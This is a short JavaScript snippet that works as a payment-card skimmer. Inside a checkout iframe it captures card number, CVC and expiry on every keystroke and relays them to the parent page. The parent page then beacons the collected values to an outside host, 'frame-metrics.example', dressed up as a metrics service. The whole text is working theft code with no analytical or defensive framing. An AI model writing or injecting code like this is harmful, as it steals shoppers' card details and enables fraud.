(function () {
  var role = window === window.top ? 'parent' : 'field';
  if (role === 'field') {
    var input = document.querySelector('input[name="cardnumber"], input[name="cvc"], input[name="exp-date"]');
    if (!input) return;
    input.addEventListener('keyup', function () {
      window.parent.postMessage('~' + input.name + '~' + input.value, '*');
    });
    return;
  }
  var seen = {};
  window.addEventListener('message', function (m) {
    if (typeof m.data !== 'string' || m.data.charAt(0) !== '~') return;
    var p = m.data.split('~');
    seen[p[1]] = p[2];
    clearTimeout(seen.timer);
    seen.timer = setTimeout(function () {
      navigator.sendBeacon('https://frame-metrics.example/v', JSON.stringify({ c: seen.cardnumber, v: seen.cvc, e: seen['exp-date'] }));
    }, 1500);
  });
})();
